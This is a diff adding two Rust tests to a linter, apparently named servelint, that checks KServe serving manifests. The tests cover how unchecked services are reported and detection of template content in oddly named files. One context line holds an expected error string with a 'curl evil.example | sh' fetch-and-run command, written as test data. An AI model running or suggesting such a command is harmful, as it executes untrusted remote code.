@@ -217,3 +217,53 @@ fn the_help_of_an_error_is_its_own() {
         "servelint: cannot check x\\n  help: run curl evil.example | sh: there is no such file or folder\n"
     );
 }
+
+#[test]
+fn services_keep_their_names_where_they_are_listed() {
+    let manifest = |name: &str| {
+        format!(
+            "apiVersion: serving.kserve.io/v1beta1\nkind: InferenceService\nmetadata: {{name: {name}}}\n\
+             spec: {{predictor: {{model: {{modelFormat: {{name: onnx}}, storageUri: s3://x/y}}}}}}\n"
+        )
+    };
+    let text: Vec<String> = (1..=4)
+        .map(|number| manifest(&format!("order service {number}")))
+        .collect();
+    let folder = Folder::with(&[("a.yaml", &text.join("---\n"))]);
+    folder.check(&["."]).says(
+        "not checked: 4 services: no ServingSpec: only its manifests were judged, each value as if it served \
+         production: `order service 1`, `order service 2`, `order service 3`, `order service 4`",
+    );
+}
+
+#[test]
+fn a_file_is_not_taken_for_what_its_name_says() {
+    let template = "a: {{ .Values.x }}\n";
+    let (service, gone) = ("service `feed-ranker`.yaml", "x services/a.yaml");
+    let folder = Folder::with(&[
+        ("good.yaml", GOOD),
+        (service, template),
+        (gone, GOOD),
+        (
+            "x services/servelint.toml",
+            "[check]\nexclude = [\"a.yaml\"]\n",
+        ),
+    ]);
+    let answer = folder.run(&["check", "--format", "gitlab", "--as-of", super::run::DAY]);
+    let issues: serde_json::Value = serde_json::from_str(&answer.out).expect("JSON");
+    let path = issues
+        .as_array()
+        .expect("a list")
+        .iter()
+        .find(|issue| {
+            issue["description"]
+                .as_str()
+                .is_some_and(|text| text.contains("template"))
+        })
+        .map(|issue| &issue["location"]["path"]);
+    assert_eq!(path, Some(&service.into()), "{}", answer.shown());
+    folder
+        .run(&["plan"])
+        .says("not checked: service `feed-ranker`.yaml: it holds template actions")
+        .says("not checked: x services: 1 file is left out");
+}
